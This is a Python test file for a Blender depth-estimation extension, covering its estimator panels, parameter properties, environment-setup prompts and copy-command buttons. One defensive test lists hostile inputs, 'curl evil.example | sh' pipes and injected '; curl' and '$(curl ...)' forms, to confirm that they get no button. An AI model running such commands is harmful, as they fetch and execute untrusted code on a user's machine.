"""What the artist sees: the estimators to choose from, their knobs, and panels that fit their editors."""

import json
from dataclasses import replace
from functools import partial
from types import SimpleNamespace

import bpy
import pytest
from bl_ext.dev.fathom.inference.contract import catalogue as contract
from bl_ext.dev.fathom.inference.contract import client, environment, environment_setup
from bl_ext.dev.fathom.inference.contract.catalogue import QUICK
from bl_ext.dev.fathom.inference.contract.events import ShotNote
from bl_ext.dev.fathom.operators import environment as environment_operators
from bl_ext.dev.fathom.panels import build, catalogue, estimate, parts
from bl_ext.dev.fathom.panels import preferences as panels_preferences
from bl_ext.dev.fathom.scene import current_run, preferences, settings
from drawing import Recorder, drawn, ready

LISTED = [
    {"name": "parallax", "label": "Parallax", "summary": "From motion.", "licence": "GPL", "default_size": 640,
     "unheard_of": 1, "missing_requirements": [], "parameters": []},
    {"name": "other", "label": "Other", "summary": "From learning.", "default_size": 1024,
     "missing_requirements": [{"what": "It needs a GPU.", "hint": "Buy one."}],
     "parameters": [
         {"name": "steps", "default": 5, "description": "How many.", "minimum": 1, "maximum": 50, "choices": []},
         {"name": "guidance", "default": 1.5, "description": "How much.", "minimum": 0.0, "maximum": None},
         {"name": "fine", "default": True, "description": "A switch."},
         {"name": "mode", "default": "fast", "description": "A choice.", "choices": ["fast", "best"]},
         {"name": "prompt", "default": "", "description": "A text."},
         {"name": "fp16_loss", "default": False, "description": "For research.", "advanced": True},
     ]},
]  # fmt: skip


@pytest.fixture
def learned():
    """The session knows two estimators."""
    catalogue.learn(contract.read(json.dumps(LISTED)))
    yield
    catalogue.forget()


def test_without_a_worker_the_default_is_listed():
    assert [f.name for f in catalogue.estimators()] == ["automatic"]
    assert bpy.context.scene.fathom.estimator == "automatic"


def test_the_workers_list_is_taken_in(learned):
    assert [f.label for f in catalogue.estimators()] == ["Parallax", "Other"]
    assert catalogue.facts("other").missing_requirements[0].hint == "Buy one." and catalogue.facts("nobody") is None


def test_declared_parameters_become_properties_with_limits(learned, empty_file):
    scene = bpy.context.scene
    group = scene.fathom_other
    assert (group.steps, group.guidance, group.fine, group.mode, group.prompt) == (5, 1.5, True, "fast", "")
    group.steps = 1000
    assert group.steps == 50
    group.mode = "best"
    group.guidance = 0.1
    assert group.bl_rna.properties["guidance"].description == "How much"
    assert settings.parameters(scene, "other") == {"steps": 50, "mode": "best", "guidance": 0.1}
    assert settings.parameters(scene, "parallax") == {} and not hasattr(scene, "fathom_parallax")


def test_what_was_set_is_kept_in_the_file(learned, empty_file, tmp_path):
    bpy.context.scene.fathom.estimator = "other"
    bpy.context.scene.fathom_other.steps = 7
    bpy.ops.wm.save_as_mainfile(filepath=str(tmp_path / "shot.blend"))
    bpy.ops.wm.read_homefile(use_empty=True, use_factory_startup=True)
    bpy.ops.wm.open_mainfile(filepath=str(tmp_path / "shot.blend"))
    assert settings.from_scene(bpy.context.scene).parameters == {"steps": 7}


def test_what_is_for_research_stands_in_a_panel_of_its_own_that_is_closed(learned, empty_file):
    scene = bpy.context.scene
    scene.fathom.estimator = "other"
    context = SimpleNamespace(scene=scene, region=SimpleNamespace(width=4000), area=None)
    for settings_panel, advanced in (
        (estimate.FATHOM_PT_sequencer_settings, estimate.FATHOM_PT_sequencer_advanced),
        (estimate.FATHOM_PT_clip_settings, estimate.FATHOM_PT_clip_advanced),
    ):
        assert advanced.bl_options == {"DEFAULT_CLOSED"} and advanced.bl_parent_id == settings_panel.__name__
        settings_panel.draw(SimpleNamespace(layout=(usual := Recorder())), context)
        advanced.draw(SimpleNamespace(layout=(rare := Recorder())), context)
        assert "<steps>" in usual.texts and "<fp16_loss>" not in usual.texts and rare.texts == ["<fp16_loss>"]
        assert advanced.poll(context)
        scene.fathom.estimator = "parallax"
        assert not advanced.poll(context)
        scene.fathom.estimator = "other"


def test_forgetting_leaves_nothing(learned):
    catalogue.forget()
    assert not hasattr(bpy.types.Scene, "fathom_other") and not hasattr(bpy.types, "FATHOM_PG_other")


def test_the_worker_is_asked_again_only_while_something_is_lacking(learned, monkeypatch, tmp_path):
    monkeypatch.setattr(catalogue._session, "asked", tmp_path)
    monkeypatch.setattr(catalogue._session, "asked_at", 100.0)
    monkeypatch.setattr(catalogue._session, "ended", current_run.count_ended() - 1)
    assert catalogue._is_due(tmp_path, 101.0), "a run has ended, which may have brought what was lacking"
    monkeypatch.setattr(catalogue._session, "ended", current_run.count_ended())
    assert catalogue._is_due(tmp_path / "another", 101.0)
    assert not catalogue._is_due(tmp_path, 101.0) and catalogue._is_due(tmp_path, 200.0)
    monkeypatch.setattr(catalogue._session, "question", object())
    assert not catalogue._is_due(tmp_path, 200.0), "an answer is awaited"
    monkeypatch.setattr(catalogue._session, "question", None)
    monkeypatch.setattr(catalogue._session, "known", (contract.AUTOMATIC,))
    assert not catalogue._is_due(tmp_path, 200.0), "nothing is lacking"


@pytest.mark.parametrize("text", ["", "[]", "{}", '[{"label": "nameless"}]', "[1]"])
def test_a_list_that_is_none_is_refused(text):
    with pytest.raises(ValueError, match=r"estimator"):
        contract.read(text)


def test_the_worker_tells_its_estimators(inference_python):
    found = contract.answer(contract.ask(inference_python))
    parallax = next(facts for facts in found if facts.name == "parallax")
    assert parallax.label and parallax.summary and parallax.default_size


def test_every_estimator_is_known_to_the_fallback_by_the_same_name(inference_python):
    found = contract.answer(contract.ask(inference_python))
    facts = next(facts for facts in found if facts.name == contract.AUTOMATIC.name)
    assert facts.label == contract.AUTOMATIC.label


def test_panels_stand_in_the_tab_fathom_of_their_editors():
    panels = [c for c in (*estimate.CLASSES, *build.CLASSES) if issubclass(c, bpy.types.Panel)]
    editors = {"SEQUENCE_EDITOR", "CLIP_EDITOR", "IMAGE_EDITOR", "VIEW_3D", "NODE_EDITOR"}
    assert {p.bl_space_type for p in panels} == editors
    # where the focus is picked in the image, its button is there
    assert {p.bl_space_type for p in panels if issubclass(p, build._Compositing)} >= set(build._PICKS)
    assert all(p.bl_category == "Fathom" and p.bl_region_type == "UI" for p in panels)


def test_a_long_sentence_is_broken_into_lines():
    layout = Recorder()
    text = (
        "The inference environment that Fathom needs is not installed yet: press Install Dependencies in Preferences."
    )
    parts.draw_text(layout, text, width=240)
    assert len(layout.texts) > 2 and " ".join(layout.texts) == text
    assert max(map(len, layout.texts)) <= 28


def test_nothing_selected_is_said():
    sequencer = estimate.FATHOM_PT_sequencer.subject
    assert sequencer(None, SimpleNamespace(scene=SimpleNamespace(sequence_editor=None)))[1] == "INFO"
    strip = SimpleNamespace(name="blue", type="COLOR")
    scene = SimpleNamespace(sequence_editor=SimpleNamespace(active_strip=strip))
    assert sequencer(None, SimpleNamespace(scene=scene)) == ("blue shows no clip", "INFO")
    strip.type = "MOVIE"
    assert sequencer(None, SimpleNamespace(scene=scene)) == ("blue", "SEQUENCE")


def test_a_newcomer_is_led_to_a_strip_and_to_a_saved_file(empty_file):
    sequencer = estimate.FATHOM_PT_sequencer.subject
    no_scene = SimpleNamespace(scene=empty_file, workspace=SimpleNamespace(sequencer_scene=None))
    assert "press New" in sequencer(None, no_scene)[0]
    assert "Add > Movie" in sequencer(None, SimpleNamespace(scene=empty_file))[0]
    empty_file.sequence_editor_create()
    assert "Add > Movie" in sequencer(None, SimpleNamespace(scene=empty_file))[0]
    layout = Recorder()
    estimate._draw_unsaved(layout, "//depth", width=4000)
    assert [button.name for button in layout.buttons] == ["wm.save_as_mainfile"] and "Save this file" in layout.texts[0]
    estimate._draw_unsaved(layout := Recorder(), "/depth", width=4000)
    assert not layout.texts


LACKING = contract.EstimatorFacts(
    name="other",
    label="Other",
    missing_requirements=(
        contract.MissingRequirement(what="Other needs packages.", hint="Run: pip", kind="packages"),
        contract.MissingRequirement(what="Weights are missing.", hint="Download them.", kind="weights"),
    ),
    notes=(contract.MissingRequirement(what="A GPU is idle.", hint="Wake it.", kind="device"),),
)


@pytest.fixture
def home(tmp_path, monkeypatch):
    """A data folder of the test's own."""
    monkeypatch.delenv("FATHOM_PYTHON", raising=False)
    monkeypatch.setenv("FATHOM_HOME", str(tmp_path / "home"))
    return tmp_path / "home"


def drawn_lacks(facts):
    return drawn(lambda layout: parts.draw_requirements(layout, facts, preferences.known(), width=2000))


def drawn_environment(estimator):
    """What is drawn of the environment, and whether the worker can be started."""
    told = []
    draw = lambda layout: told.append(parts.draw_environment(layout, preferences.known(), estimator, width=4000))  # noqa: E731
    return drawn(draw), told[-1]


def test_an_estimator_that_lacks_packages_shows_the_sentence_and_the_button_that_cures_it(home):
    ready("light")
    layout = drawn_lacks(LACKING)
    allow, button, quick = layout.buttons
    assert allow.text == "Allow Online Access" and quick.name == "fathom.get_quick_depth"
    assert (button.name, button.packages) == ("fathom.install_dependencies", "FULL")
    assert layout.texts[0] == "Other needs packages." and "Run: pip" not in " ".join(layout.texts)
    assert any(preferences.describe_size("full")[1:] in text for text in layout.texts)
    assert "Weights are missing. Download them." in layout.texts and layout.texts[-1] == "A GPU is idle. Wake it."


def test_in_another_python_the_command_is_offered_for_setting_up_would_not_help(home, tmp_path, monkeypatch):
    monkeypatch.setenv("FATHOM_PYTHON", str(ready("light")))
    monkeypatch.setenv("FATHOM_HOME", str(tmp_path / "elsewhere"))
    layout = drawn_lacks(LACKING)
    button, _quick = layout.buttons
    assert (button.name, button.command) == ("fathom.copy_command", "pip")
    assert layout.texts[0] == "Other needs packages. Run this in a terminal:"


def test_quick_offers_what_it_lacks_by_a_press_and_says_what_that_downloads(home):
    requirement = contract.MissingRequirement(what="Weights are missing.", hint="Run: models download", kind="weights")
    facts = contract.EstimatorFacts(name="quick", label="Quick", missing_requirements=(requirement,))
    layout = drawn_lacks(facts)
    allow, get = layout.buttons
    assert (allow.text, get.name) == ("Allow Online Access", "fathom.get_quick_depth")
    assert "online access is off" in " ".join(layout.texts)
    assert layout.texts[-1] == contract.QUICK.terms
    layout = drawn_lacks(replace(facts, missing_requirements=()))
    assert layout.buttons == []


def test_without_packages_at_all_quick_is_not_offered(home):
    requirement = contract.MissingRequirement(what="Packages are missing.", hint="Set up.", kind="environment")
    layout = drawn_lacks(replace(LACKING, missing_requirements=(requirement,)))
    assert "fathom.get_quick_depth" not in [button.name for button in layout.buttons]


def test_a_command_that_ends_a_sentence_becomes_a_button_that_copies_it():
    layout = Recorder()
    command = '"/home/an artist/python" -m pip install -r full.txt'
    parts.draw_advice(layout, f"It lacks torch. Set it up, or run: {command}", icon="ERROR", width=2000)
    assert layout.texts == ["It lacks torch. Set it up, or run this in a terminal:"]
    assert [button.command for button in layout.buttons] == [command]
    parts.draw_advice(layout, "The clip ends before frame 8: run a shorter one.", icon="ERROR", width=2000)
    assert len(layout.buttons) == 1, "no command, no button"


def test_the_command_is_copied_and_told_in_the_tooltip():
    window_manager, told = SimpleNamespace(clipboard=""), []
    button = SimpleNamespace(command="python -m inference models download", report=lambda *words: told.append(words))
    operator = environment_operators.FATHOM_OT_copy_command
    assert operator.execute(button, SimpleNamespace(window_manager=window_manager)) == {"FINISHED"}
    assert window_manager.clipboard == button.command and told[0][0] == {"INFO"}
    assert button.command in operator.description(None, button)


def test_the_licence_is_told_while_weights_are_missing(home):
    licensed = replace(LACKING, licence="Weights: for research only")
    layout = drawn_lacks(licensed)
    assert "Weights: for research only" in layout.texts
    layout = drawn_lacks(replace(licensed, missing_requirements=()))
    assert "Weights: for research only" not in layout.texts


@pytest.mark.parametrize("separator", ["/", "\\"])
def test_a_path_is_broken_between_its_folders(separator):
    layout = Recorder()
    path = separator.join(["", "home", "artist", ".local", "share", "fathom", "huggingface", "hub", "models"])
    parts.draw_text(layout, f"Weights are missing in {path}: all.", width=300)
    ends = [line for line in layout.texts[:-1] if not line.endswith(separator)]
    assert "".join(layout.texts).replace(" ", "") == f"Weights are missing in {path}: all.".replace(" ", "")
    assert ends in ([], ["Weights are missing in"]) and len(layout.texts) > 1


@pytest.mark.parametrize(("estimator", "packages"), [("parallax", "LIGHT"), ("depthcrafter", "FULL")])
def test_without_an_environment_the_button_sets_up_what_the_estimator_needs(home, estimator, packages):
    layout, can_run = drawn_environment(estimator)
    assert not can_run
    _, button = layout.buttons
    assert button.packages == packages
    assert layout.texts[0].endswith("is not installed yet: press Install Dependencies."), (
        "the button stands right there"
    )
    assert any(text.startswith("About ") and "GB to download" in text for text in layout.texts)


@pytest.mark.parametrize(
    ("sets", "words"),
    [
        ((), "is not installed yet: press Install Dependencies."),
        (("light",), "ready, with the basic packages"),
        (("full",), "ready for all estimators"),
        (("light", "full"), "ready for all estimators"),
    ],
)
def test_the_preferences_say_what_is_there_and_offer_the_choice(home, sets, words):
    for packages in sets:
        ready(packages)
    layout = drawn_preferences(packages="FULL")
    assert any(words in text for text in layout.texts)
    assert not any(environment.WHERE in text for text in layout.texts), "they are the very place"
    assert "<packages expanded>" in layout.texts
    assert any(preferences.describe_size("full") in text for text in layout.texts)
    by_name = {button.name: button for button in layout.buttons}
    assert ("fathom.remove_environment" in by_name) == bool(sets)
    if "full" in sets:
        assert "fathom.install_dependencies" not in by_name and preferences.INSTALLED in layout.texts
    else:
        assert by_name["fathom.install_dependencies"].packages == "FULL"
        assert "<torch_index>" in layout.texts and "<torch_index>" not in drawn_preferences(packages="LIGHT").texts
        assert by_name["extensions.userpref_allow_online"].text == "Allow Online Access"


def test_the_packages_of_all_estimators_serve_for_the_basic_ones(home):
    ready("light")
    assert preferences.INSTALLED not in drawn_preferences(packages="FULL").texts
    ready("full")
    assert preferences.INSTALLED in drawn_preferences(packages="LIGHT").texts


def test_the_documentation_is_a_click_away(home):
    (button,) = (button for button in drawn_preferences().buttons if button.text == "Documentation")
    assert button.name == "wm.path_open" and button.filepath.endswith("docs/README.md")


def test_online_nothing_is_said_of_it(home):
    system = bpy.context.preferences.system
    system.use_online_access = True
    try:
        names = [button.name for button in drawn_preferences().buttons]
    finally:
        system.use_online_access = False
    assert "fathom.install_dependencies" in names and "extensions.userpref_allow_online" not in names


def test_an_unsupported_shot_says_what_getting_quick_depth_waits_for(learned):
    quick = replace(
        LACKING, name=QUICK.estimator, missing_requirements=(replace(LACKING.missing_requirements[0], kind="weights"),)
    )
    for known, online, buttons in (((), False, 1), ((quick,), False, 2), ((quick,), True, 1)):
        catalogue.learn(known)
        bpy.context.preferences.system.use_online_access = online
        try:
            parts.draw_quick(layout := Recorder(), "parallax", width=2000)
        finally:
            bpy.context.preferences.system.use_online_access = False
        assert len(layout.buttons) == buttons


def test_blenders_own_button_allows_online_access():
    system = bpy.context.preferences.system
    assert not system.use_online_access
    try:
        assert bpy.ops.extensions.userpref_allow_online() == {"FINISHED"}
        assert system.use_online_access
    finally:
        system.use_online_access = False


@pytest.mark.parametrize("sets", [(), ("light",)])
def test_a_worker_that_cannot_be_run_is_told_where_to_correct(home, monkeypatch, sets):
    for packages in sets:
        ready(packages)
    monkeypatch.setenv("FATHOM_PYTHON", "/nowhere/python")
    layout, can_run = drawn_environment("parallax")
    assert not can_run
    assert environment.WHERE in layout.texts[0]
    (button,) = layout.buttons
    assert (button.name, button.module) == ("preferences.addon_show", preferences.ADDON), "setting up would not help"
    assert not any(environment.WHERE in text for text in drawn_preferences().texts)


def test_a_set_up_that_failed_is_told_until_it_is_there(home):
    def broken():
        yield ()
        raise environment_setup.SetupError(f"No network; choose another data folder in {environment.WHERE}.")

    run = current_run.start("Setting up", broken(), "light")
    while run.outcome == "running":
        run.advance()
    current_run.end(run)
    told = "No network; choose another data folder."
    assert told in drawn_preferences().texts
    assert told in drawn_environment("parallax")[0].texts
    ready("light")
    assert told not in drawn_preferences().texts
    current_run.forget_last()


def test_a_growth_that_was_broken_off_is_told_beside_what_is_ready(home):
    ready("light")
    folder = preferences.own_environment("full")
    folder.mkdir(parents=True)
    (folder / "pyvenv.cfg").write_text("")
    layout = drawn_preferences(packages="LIGHT")
    assert any(
        "was interrupted, with the packages of all estimators: press Install Dependencies" in text
        for text in layout.texts
    )


def drawn_preferences(packages="LIGHT", *, show_weights=False):
    """The layout that the preferences were drawn into."""
    context = SimpleNamespace(region=SimpleNamespace(width=4000))
    draw = panels_preferences.FATHOM_AP_preferences.draw
    return drawn(
        lambda layout: draw(SimpleNamespace(layout=layout, packages=packages, show_weights=show_weights), context)
    )


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh # (a clip's name) cannot be read.",
        "/tmp/python -m pip install -r evil.txt",
        "{python} {main} models download x; curl evil.example",
        "{python} {main} models download $(curl evil.example)",
        "{python} -m pip install evil",
    ],
)
def test_a_command_that_others_put_into_a_message_gets_no_button(home, monkeypatch, command):
    python = ready("light")
    monkeypatch.setenv("FATHOM_PYTHON", str(python))
    command = command.format(python=python, main=client.MAIN)
    text = f"Refused (it says). Run: {command}"
    layout = drawn(lambda layout: parts.draw_advice(layout, text, icon="ERROR", width=9999, quotes=True))
    assert layout.buttons == [] and layout.texts == [text]
    reason = ShotNote(first_frame=1, last_frame=2, reason=f"It was refused. Run: {command}")
    layout = drawn(lambda layout: parts.draw_shots(layout, [reason], width=9999))
    assert [button.name for button in layout.buttons] == ["fathom.show_frame"]


def test_a_command_of_fathoms_own_in_a_message_gets_its_button(home, monkeypatch):
    python = ready("light")
    monkeypatch.setenv("FATHOM_PYTHON", str(python))
    quoted = f'"{client.MAIN}"' if " " in str(client.MAIN) else str(client.MAIN)
    for command in (f"{python} {quoted} models download monst3r", f"{python} -m pip install -r light.txt"):
        text = f"Weights are missing. Run: {command}"
        draw = partial(parts.draw_advice, text=text, icon="ERROR", width=9999, quotes=True)
        layout = drawn(draw)
        assert [button.command for button in layout.buttons] == [command]
